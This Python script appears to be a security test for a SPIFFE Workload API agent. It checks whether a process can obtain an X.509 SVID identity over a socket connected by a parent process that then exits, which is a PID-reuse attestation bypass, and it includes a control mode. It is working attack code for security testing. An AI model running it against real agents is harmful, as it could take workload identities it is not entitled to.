"""PID-reuse check: the process that connected to the Workload API is gone (replaced by another
process) before the request is attested.

usage: pid_reuse.py SOCKET_PATH          (connect, hand over, exit: the attack)
       pid_reuse.py --direct SOCKET_PATH (the same request from the connecting process: control)

The parent connects a Unix socket to the agent, hands the connected socket to a child process,
and exits. The child (a different process, which the kernel did not record as the peer) sends
FetchX509SVID over raw HTTP/2. Prints {"grpc_status": N|null, "got_svid": bool, "reset": bool}.
"""

import json
import os
import socket
import subprocess
import sys

import h2.config
import h2.connection
import h2.events


def child(fd: int) -> int:
    sock = socket.socket(fileno=fd)
    sock.settimeout(10)
    conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sid = conn.get_next_available_stream_id()
    conn.send_headers(sid, [
        (":method", "POST"), (":scheme", "http"), (":authority", "localhost"),
        (":path", "/SpiffeWorkloadAPI/FetchX509SVID"),
        ("content-type", "application/grpc"), ("te", "trailers"),
        ("workload.spiffe.io", "true"),
    ])
    conn.send_data(sid, b"\x00\x00\x00\x00\x00", end_stream=True)
    sock.sendall(conn.data_to_send())
    status, got_svid, reset = None, False, False
    done = False
    while not done:
        try:
            data = sock.recv(65535)
        except (socket.timeout, ConnectionResetError):
            break
        if not data:
            break
        for ev in conn.receive_data(data):
            if isinstance(ev, h2.events.DataReceived):
                conn.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
                if len(ev.data) > 5:
                    got_svid = True
                    done = True
            elif isinstance(ev, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
                for k, v in ev.headers:
                    if k in (b"grpc-status", "grpc-status"):
                        status = int(v)
                        done = True
            elif isinstance(ev, (h2.events.StreamReset, h2.events.ConnectionTerminated)):
                reset = True
                done = True
            elif isinstance(ev, h2.events.StreamEnded):
                done = True
        out = conn.data_to_send()
        if out:
            sock.sendall(out)
    print(json.dumps({"grpc_status": status, "got_svid": got_svid, "reset": reset}))
    return 0


def main() -> int:
    if sys.argv[1] == "--child":
        return child(int(sys.argv[2]))
    if sys.argv[1] == "--direct":
        sock = socket.socket(socket.AF_UNIX)
        sock.connect(sys.argv[2])
        return child(os.dup(sock.fileno()))
    sock = socket.socket(socket.AF_UNIX)
    sock.connect(sys.argv[1])
    fd = sock.fileno()
    proc = subprocess.Popen([sys.executable, __file__, "--child", str(fd)], pass_fds=[fd])
    # The connecting process leaves; only the child holds the connection now.
    os._exit(0 if proc.pid > 0 else 1)


if __name__ == "__main__":
    sys.exit(main())
